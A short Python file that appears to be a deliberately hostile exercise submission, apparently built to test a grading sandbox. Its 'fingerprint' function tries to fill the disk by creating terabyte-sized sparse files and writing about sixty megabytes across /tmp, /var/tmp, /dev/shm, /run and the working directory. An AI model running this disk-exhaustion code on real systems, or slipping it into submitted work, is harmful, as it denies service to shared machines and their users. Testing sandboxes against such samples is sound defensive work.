"""tries: to fill the disk: sixty megabytes in every place that lets it write, one file grown by its size alone"""

# exercise: fingerprint
# earns: none
import os
import tempfile

PLACES = [os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/run"]
left = 60


def fingerprint(data):
    global left
    for number, place in enumerate(PLACES):
        try:
            with open(os.path.join(place, f"som_hostile_sparse_{number}"), "wb") as stream:
                stream.truncate(1 << 40)
        except OSError:
            pass
        for part in range(10):
            if left <= 0:
                break
            left -= 1
            try:
                with open(os.path.join(place, f"som_hostile_fill_{part}"), "wb") as stream:
                    stream.write(bytes(1 << 20))
            except OSError:
                pass
    raise RuntimeError("wrong")


def differing_bits(a, b):
    raise RuntimeError("not what this is about")
